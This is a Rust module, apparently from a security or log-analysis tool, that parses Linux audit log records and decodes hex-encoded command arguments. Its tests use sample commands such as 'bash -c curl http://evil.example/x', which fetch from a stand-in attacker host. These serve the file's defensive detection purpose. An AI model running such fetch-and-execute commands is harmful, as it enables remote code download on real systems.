//! Command lines in the records of Linux's audit log.

/// A command that was run, put together from its arguments.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Command {
    /// The arguments that stand there as they are, all of them in their order; those that were hex are left out.
    pub(super) plain: String,
    /// The whole command line, if some of its arguments were written in hex.
    pub(super) decoded: String,
}

/// The command lines of the records in a log line: `EXECVE` with its arguments, and `PROCTITLE`.
///
/// auditd writes an argument in quotes, or in hex without quotes if a blank, a quote or a byte outside ASCII is in it.
pub(super) fn commands(log: &str) -> Vec<Command> {
    let mut commands = Vec::new();
    for record in log.split("type=") {
        if let Some(fields) = record.strip_prefix("EXECVE") {
            commands.push(execve(fields));
        } else if let Some(fields) = record.strip_prefix("PROCTITLE") {
            let title = fields.split_once("proctitle=").map(|(_, title)| title.trim());
            if let Some(title) = title.and_then(|title| title.split([' ', '\n']).next()) {
                let mut command = Command::default();
                command.push(title);
                commands.push(command);
            }
        }
    }
    commands
}

fn execve(fields: &str) -> Command {
    let mut command = Command::default();
    for word in Words(fields) {
        let Some((key, value)) = word.split_once('=') else { continue };
        // `a0`, and `a0[1]` for the pieces of a long one; `a0_len` says how long it is.
        let is_argument = key.strip_prefix('a').is_some_and(|rest| {
            rest.starts_with(|char: char| char.is_ascii_digit())
                && rest.chars().all(|char| char.is_ascii_digit() || char == '[' || char == ']')
        });
        if is_argument {
            command.push(value);
        }
    }
    command
}

impl Command {
    /// Adds one argument as auditd wrote it.
    fn push(&mut self, value: &str) {
        if !self.plain.is_empty() {
            self.plain.push(' ');
        }
        match value.strip_prefix('"').map(|value| value.strip_suffix('"').unwrap_or(value)) {
            Some(plain) => {
                if !self.decoded.is_empty() {
                    self.decoded.push(' ');
                    self.decoded.push_str(plain);
                }
                self.plain.push_str(plain);
            }
            None => match from_hex(value) {
                Some(decoded) => {
                    if self.decoded.is_empty() {
                        self.decoded.push_str(&self.plain);
                    } else {
                        self.decoded.push(' ');
                    }
                    self.decoded.push_str(&decoded);
                }
                None => self.plain.push_str(value),
            },
        }
    }
}

/// The text that hex digits stand for; NULs, which part the words of `proctitle`, become blanks.
fn from_hex(text: &str) -> Option<String> {
    if text.len() < 2 || text.len() % 2 != 0 {
        return None;
    }
    let mut bytes = Vec::with_capacity(text.len() / 2);
    let (pairs, _) = text.as_bytes().as_chunks::<2>();
    for [high, low] in pairs {
        let high = char::from(*high).to_digit(16)?;
        let low = char::from(*low).to_digit(16)?;
        let byte = u8::try_from(high * 16 + low).ok()?;
        bytes.push(if byte == 0 { b' ' } else { byte });
    }
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// The words of a record; blanks in quotes do not part them.
struct Words<'t>(&'t str);

impl<'t> Iterator for Words<'t> {
    type Item = &'t str;

    fn next(&mut self) -> Option<&'t str> {
        self.0 = self.0.trim_start();
        if self.0.is_empty() {
            return None;
        }
        let mut in_quotes = false;
        let end = self.0.find(|char: char| {
            in_quotes ^= char == '"';
            char.is_ascii_whitespace() && !in_quotes
        });
        let (word, rest) = self.0.split_at(end.unwrap_or(self.0.len()));
        self.0 = rest;
        Some(word)
    }
}

#[cfg(test)]
mod tests {
    use super::{Command, commands};

    fn command(plain: &str, decoded: &str) -> Command {
        Command { plain: plain.to_owned(), decoded: decoded.to_owned() }
    }

    #[test]
    fn arguments_are_put_together() {
        let log = r#"type=SYSCALL msg=audit(1714559673.1:9): a0=7ffd a1=55 exe="/bin/bash" type=EXECVE msg=audit(1714559673.1:9): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F6576696C2E6578616D706C652F78 type=CWD msg=audit(1714559673.1:9): cwd="/root""#;
        assert_eq!(commands(log), [command("bash -c ", "bash -c curl http://evil.example/x")]);
    }

    #[test]
    fn plain_arguments_stay() {
        let log = r#"type=EXECVE msg=audit(1.1:1): argc=2 a0="curl" a1="http://evil.example/a b""#;
        assert_eq!(commands(log), [command("curl http://evil.example/a b", "")]);
    }

    #[test]
    fn titles_are_words_parted_by_nul() {
        let log = "type=PROCTITLE msg=audit(1.1:1): proctitle=6375726C00687474703A2F2F6576696C2E6578616D706C65";
        assert_eq!(commands(log), [command("", "curl http://evil.example")]);
    }

    #[test]
    fn what_is_no_hex_is_kept() {
        assert_eq!(commands("type=EXECVE a0=(null) a1=ABC a0_len=12"), [command("(null) ABC", "")]);
        assert_eq!(commands("type=EXECVE"), [Command::default()]);
        assert_eq!(commands("no record"), []);
    }
}
